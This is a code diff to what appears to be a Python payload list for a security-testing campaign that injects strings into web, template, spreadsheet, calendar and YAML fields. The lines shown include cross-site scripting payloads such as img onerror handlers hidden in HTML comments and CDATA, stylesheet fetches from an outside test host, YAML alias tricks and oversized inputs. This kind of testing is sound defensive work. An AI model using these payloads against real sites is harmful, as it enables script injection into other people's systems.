@@ -1,7 +1,7 @@
 """What the campaign ``injection`` puts into fields: code for browsers, templates, spreadsheets, calendars and YAML.
 
-``MARK`` becomes a word that is the only one of its kind, so that what became of each field can be found again. Code that
-runs sets ``window.__kb_ran``; code that fetches asks the host ``OUTSIDE``.
+``MARK`` becomes a word that is the only one of its kind, so that what became of each field can be found again. Code
+that runs sets ``window.__kb_ran``; code that fetches asks the host ``OUTSIDE``.
 """
 
 from __future__ import annotations
@@ -59,7 +59,7 @@ PAYLOADS: tuple[str, ...] = (
     f"<link rel=stylesheet href={_URL}>",
     f"<style>@import '{_URL}';</style>",
     f'<div style="background:url({_URL})">MARK</div>',
-    f"<p style='position:fixed;inset:0'>MARK",
+    "<p style='position:fixed;inset:0'>MARK",
     # texts that two readers of HTML read otherwise
     f"<!--><img src=x onerror={_RUN}>-->",
     f"<![CDATA[<img src=x onerror={_RUN}>]]>",
@@ -137,9 +137,9 @@ PAYLOADS: tuple[str, ...] = (
     "&MARK *MARK",
     "<<: *MARK",
     # size
-    "MARK " + "lorem " * 2_000,
-    "MARK" + "x" * 5_000,
-    "MARK " + "<b>" * 1_000,
+    "MARK " + "lorem " * 500,
+    "MARK" + "x" * 3_000,
+    "MARK " + "<b>" * 500,
 )
 """Each is a whole value, or is put behind what a field says."""
 
